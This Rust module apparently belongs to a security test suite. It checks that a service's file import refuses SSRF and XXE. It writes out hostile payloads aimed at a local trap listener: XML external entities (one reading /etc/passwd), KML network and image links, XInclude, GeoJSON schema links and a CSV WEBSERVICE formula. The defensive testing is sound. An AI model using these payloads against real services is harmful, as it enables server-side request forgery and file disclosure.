//! Files that have the station call somebody (SSRF).
//!
//! **Who:** somebody whose file is imported. **Tries:** external entities and document types, links of the network and pictures in KML, XInclude,
//! relations of a workbook, schemas of GeoJSON, all of which name an address that the attacker watches. **Must hold:** nobody calls
//! there. Where a station calls by itself, circuits and webhooks, is in its own configuration, and witnesses in the memorandum; that no
//! redirect is followed is another attack (`receivers-that-mislead`).

use std::time::Duration;

use serde_json::json;
use tokio::net::TcpListener;

use super::USUAL;
use crate::scene::LINE;
use crate::{Attack, Figures, Made, Outcome, Scene, elsewhere, figures, objection};

/// How long it is watched whether anybody calls after the last file.
const WATCHED: Duration = Duration::from_secs(1);

/// The attack.
pub(super) const ATTACK: Attack = Attack {
    name: "imports-that-call",
    tries: "somebody has a file imported that names addresses for the station to call",
    bounds: USUAL,
    make: |scene| Box::pin(import(scene)) as Made<'_>,
};

async fn import(scene: &Scene) -> Outcome<Figures> {
    let trap = TcpListener::bind((elsewhere(), 0)).await?;
    let at = format!("http://{}", trap.local_addr()?);
    let xml = |inside: &str, types: &str| {
        format!(
            "<?xml version=\"1.0\"?>{types}<kml xmlns=\"http://www.opengis.net/kml/2.2\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Document>{inside}</Document></kml>"
        )
    };
    let placemark =
        "<Placemark><name>&x;</name><Point><coordinates>37,34.5</coordinates></Point></Placemark>";
    let files = [
        ("entity.kml", xml(placemark, &format!("<!DOCTYPE kml [<!ENTITY x SYSTEM \"{at}/entity\">]>"))),
        ("file.kml", xml(placemark, "<!DOCTYPE kml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")),
        ("type.kml", xml(placemark, &format!("<!DOCTYPE kml SYSTEM \"{at}/type.dtd\">"))),
        ("parameter.kml", xml(placemark, &format!("<!DOCTYPE kml [<!ENTITY % p SYSTEM \"{at}/p\"> %p;]>"))),
        ("link.kml", xml(&format!("<NetworkLink><Link><href>{at}/link</href></Link></NetworkLink>"), "")),
        (
            "picture.kml",
            xml(&format!("<GroundOverlay><Icon><href>{at}/picture</href></Icon></GroundOverlay>"), ""),
        ),
        ("include.kml", xml(&format!("<xi:include href=\"{at}/include\"/>"), "")),
        (
            "link.geojson",
            format!(
                "{{\"$schema\":\"{at}/schema\",\"type\":\"FeatureCollection\",\"crs\":{{\"type\":\"link\",\"properties\":{{\"href\":\"{at}/crs\"}}}},\"features\":[]}}"
            ),
        ),
        ("formula.csv", format!("id,kind,text\n1,activity,\"=WEBSERVICE(\"\"{at}/formula\"\")\"\n")),
    ];
    let browser = scene.browser()?;
    let bearer =
        format!("authorization: Bearer {}\r\ncontent-type: application/octet-stream\r\n", scene.token);
    for (name, text) in &files {
        let said = browser
            .ask(elsewhere(), &format!("POST /v1/lines/{LINE}/import?name={name}"), &bearer, text)
            .await?;
        if said.body.contains("root:x:0") || said.status >= 500 {
            return objection(&format!("a refusal of {name}"), said.body);
        }
    }
    match tokio::time::timeout(WATCHED, trap.accept()).await {
        Ok(_) => objection("nobody who calls where files say", "a call"),
        Err(_) => Ok(figures([("files", json!(files.len())), ("calls", json!(0))])),
    }
}
